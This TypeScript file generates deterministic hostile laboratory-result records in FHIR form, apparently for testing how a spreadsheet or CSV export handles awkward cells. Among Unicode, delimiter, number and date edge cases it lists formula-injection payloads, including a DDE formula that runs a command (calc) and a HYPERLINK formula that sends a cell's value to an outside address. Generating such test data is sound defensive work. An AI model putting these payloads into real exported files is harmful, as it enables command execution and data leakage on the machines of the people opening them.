import { seeded, type Random } from '../shim/random.ts';

/** The exported columns in order, and what each holds. */
export const columns = [
  { name: 'record_id', kind: 'text' },
  { name: 'subject', kind: 'text' },
  { name: 'visit', kind: 'text' },
  { name: 'collected', kind: 'datetime' },
  { name: 'test', kind: 'text' },
  { name: 'result', kind: 'text' },
  { name: 'unit', kind: 'text' },
  { name: 'result_number', kind: 'number' },
  { name: 'result_text', kind: 'text' },
  { name: 'reference_range', kind: 'text' },
  { name: 'specimen_time', kind: 'datetime' },
  { name: 'performer', kind: 'text' },
  { name: 'service_code', kind: 'text' },
  { name: 'study', kind: 'text' },
] as const satisfies readonly HostileColumn[];

export interface HostileColumn {
  readonly name: string;
  readonly kind: 'text' | 'number' | 'datetime';
}

export const study = '22-001';

/** A laboratory result of the hostile study. */
export interface HostileLab {
  /** JSON text, as the service sends it. */
  readonly resource: string;
  /** What the mirror holds of it, in the order of the columns: numbers with the digits as sent, null for no value. */
  readonly cells: readonly (string | null)[];
}

/** Texts that make a formula, end or hide a cell, or are read as something else. */
const pieces = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n', '\r\n', ',', ';', '"', '""', "'", '|', '\\', '\0', '\u001b', '\u0085'],
  ...[
    '\u2028',
    '\u202e',
    '\ufeff',
    '\ufffe',
    '\uffff',
    '\ud800',
    '\udc00',
    '_x0041_',
    '_x000D_',
    '_X0041_',
    '_x005F_x0041_',
    '<',
    '>',
    '&',
    '&amp;',
  ],
  ...['1', '0', '.5', 'E5', 'e', 'é', 'ß', '𝛼', '👩🏽‍🔬', ' ', ' ', 'a', 'B', 'mg/dL', ']]>', '<!--', '{', '}', '%', '#'],
];
const texts = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://example.org?x="&A1,"click")',
  ...['+1', '-1', '-1.50', '+49 30 1234', '@SUM(A1)', '=1+1', '＝1+1', '＋1', '－1 mm', '＠x', '-12 mm', '--', '\t=1', '\r=1', '\n=1'],
  ...[
    'x;=1+1',
    'x,=1+1',
    'x\t=1+1',
    'x",=1+1',
    '";=1+1',
    `'=1+1`,
    ',=1',
    ';@x',
    '"',
    '""',
    '","',
    ' ',
    '  x  ',
    '',
    '""""',
    'a\r\nb',
    'a\rb',
    'a\nb',
  ],
  ...[
    'TRUE',
    'FALSE',
    'NULL',
    'NA',
    'NaN',
    '#N/A',
    '#REF!',
    '1/2',
    '3-4',
    'MARCH1',
    'SEPT2',
    'DEC-1',
    '1e400',
    '0x1F',
    '１２',
    '½',
    'true',
  ],
  ...['_x0041_', '_x000D_', '_x005F_', '\0', 'a\0b', '\u0001\u0002', '\ud83d', '\ude00x', '👩🏽‍🔬', '\ufeffx', '﷽', 'Ａ', 'שלום', '\u202ex'],
];
const ids = [
  '0012',
  '10E2',
  '3-04',
  '1E5',
  '0503E000',
  '1/2',
  '007',
  '00',
  '1e5',
  '+49',
  'MAR1',
  '=1+1',
  '12345678901234567890',
  "'1",
  '１２',
];
const units = ['U/L', '10^9/L', '%', '', '=U', '+', 'µmol/L', 'mg;dL', 'mg,dL', '"', '@', '-', '_x0041_', 'a\0b'];
const ranges = ['10-40', '<200', '>=5', '=5', '-1 - 1', '+', '', 'Negative', '@', '1,5;2,5', '"1"', '\n=1'];
const digits = [
  ...['0', '-0', '-0.0', '0.0', '1', '-1', '5.10', '1E5', '1e-7', '1.0e+2', '0.1', '-0.5', '100000000000000000000', '1e21', '1e22'],
  ...['123456789012345', '1234567890123456', '12345678901234567', '-12345678901234567', '9007199254740993', '0.1234567890123456'],
  ...[
    '1.0000000000000001',
    '123456789.1234567',
    '1e307',
    '1.7976931348623157e308',
    '1e400',
    '-1e400',
    '1e-400',
    '4.9e-324',
    '1e-100',
    '1e80',
  ],
  '3.14159265358979323846264338327950288',
];
const dates = [
  ...['2026', '2026-05', '2026-05-04', '2026-05-04T06:00', '2026-05-04T06:00:00', '2026-05-04T06:00:00.5', '2026-05-04T23:59:59.999'],
  ...['2026-05-04T06:00:00.123456', '2026-05-04T06:00:00Z', '2026-05-04T06:00:00+02:00', '2026-05-04 06:00:00', '2026-05-04T06'],
  ...['1900-01-01', '1900-02-28', '1900-02-29', '1900-03-01', '1899-12-31', '0001-01-01', '9999-12-31', '2024-02-29', '2023-02-29'],
  ...['2026-02-30', '2026-05-04T24:00:00', '2026-12-31T23:59:60', '2026-13-01', '12026-01-01', 'yesterday', '=NOW()', '-', '', '20260504'],
];

/** Rows between two texts longer than a spreadsheet's cell; more of them would make files of gigabytes. */
const rarely = 4999;

/** Result number `n` of the study that `seed` determines; always the same. */
export function hostileLab(n: number, seed: number): HostileLab {
  const random = seeded(Math.imul(n + 1, 2_654_435_761) ^ seed);
  const recordId = recordIdOf(n);
  const subject = random() < 0.02 ? null : random() < 0.6 ? pick(ids, random) : text(random) || 'x';
  const visit = maybe(random, text);
  const collected = maybe(random, date);
  const test = text(random);
  const [value, unit, resultText] = resultOf(n, random);
  const range = maybe(random, () => pick(ranges, random));
  const issued = maybe(random, date);
  const performer = maybe(random, text);
  const code = maybe(random, () => pick(ids, random));
  const result = value ?? resultText;
  // White space after `Patient/` names nobody.
  const named = subject !== null && subject.trim() === '' ? '' : subject;
  const shown = [recordId, named, visit, collected, test, result, unit, value, resultText, range, issued, performer, code, study];
  const json = JSON.stringify;
  const fields = [
    '"resourceType":"Observation"',
    `"id":"${recordId}"`,
    `"extension":[{"url":"https://research.example/StructureDefinition/crit#IDB.Protocol","valueString":"${study}"}]`,
    `"identifier":[{"system":"https://research.example/StructureDefinition/crit#LAB_RESULTS.LR_RESULT_GUID","value":"${recordId}"}]`,
    '"status":"final"',
    ...(subject === null ? [] : [`"subject":{"reference":${json(`Patient/${subject}`)}}`]),
    ...(visit === null ? [] : [`"encounter":{"display":${json(visit)}}`]),
    ...(collected === null ? [] : [`"effectiveDateTime":${json(collected)}`]),
    `"code":{"coding":[${code === null ? '' : `{"code":${json(code)}}`}],"text":${json(test)}}`,
    ...(value === null ? [] : [`"valueQuantity":{"value":${value},"unit":${json(unit)}}`]),
    ...(resultText === null ? [] : [`"valueString":${json(resultText)}`]),
    ...(range === null ? [] : [`"referenceRange":[{"text":${json(range)}}]`]),
    ...(issued === null ? [] : [`"issued":${json(issued)}`]),
    ...(performer === null ? [] : [`"performer":[{"display":${json(performer)}}]`]),
  ];
  return { resource: `{${fields.join(',')}}`, cells: shown.map((cell) => cell?.toWellFormed() ?? null) };
}

/** Its record id: digits with leading zeros, which must stay a text. */
export function recordIdOf(n: number): string {
  return String(n).padStart(7, '0');
}

/** A number and its unit, or a text, or nothing. */
function resultOf(n: number, random: Random): readonly [value: string | null, unit: string | null, text: string | null] {
  if (n % rarely === 7) return [null, null, longText(n, random)];
  const which = random();
  if (which < 0.55) return [number(random), pick(units, random), null];
  return which < 0.9 ? [null, null, text(random)] : [null, null, null];
}

/** 40,000 UTF-16 units, of one-byte or of mostly four-byte characters. */
function longText(n: number, random: Random): string {
  return `${pick(pieces, random)}${n % 2 === 0 ? 'x'.repeat(40_000) : 'x👩'.repeat(13_334)}`;
}

function text(random: Random): string {
  if (random() < 0.3) return pick(texts, random);
  return Array.from({ length: Math.floor(random() * 7) }, () => pick(pieces, random)).join('');
}

function number(random: Random): string {
  if (random() < 0.3) return pick(digits, random);
  const sign = random() < 0.2 ? '-' : '';
  const fraction = '0123456789'.slice(0, Math.floor(random() * 4));
  return `${sign}${Math.floor(random() * 10_000)}${fraction === '' ? '' : `.${fraction}`}${random() < 0.1 ? `e${Math.floor(random() * 20) - 10}` : ''}`;
}

function date(random: Random): string {
  if (random() < 0.4) return pick(dates, random);
  return new Date(Math.floor(random() * 4_102_444_800) * 1000).toISOString().slice(0, 19);
}

function maybe<T>(random: Random, make: (random: Random) => T): T | null {
  return random() < 0.1 ? null : make(random);
}

function pick<T>(from: readonly [T, ...T[]] | readonly T[], random: Random): T {
  const found = from[Math.floor(random() * from.length)];
  if (found === undefined) throw new RangeError('Nothing to choose from.');
  return found;
}
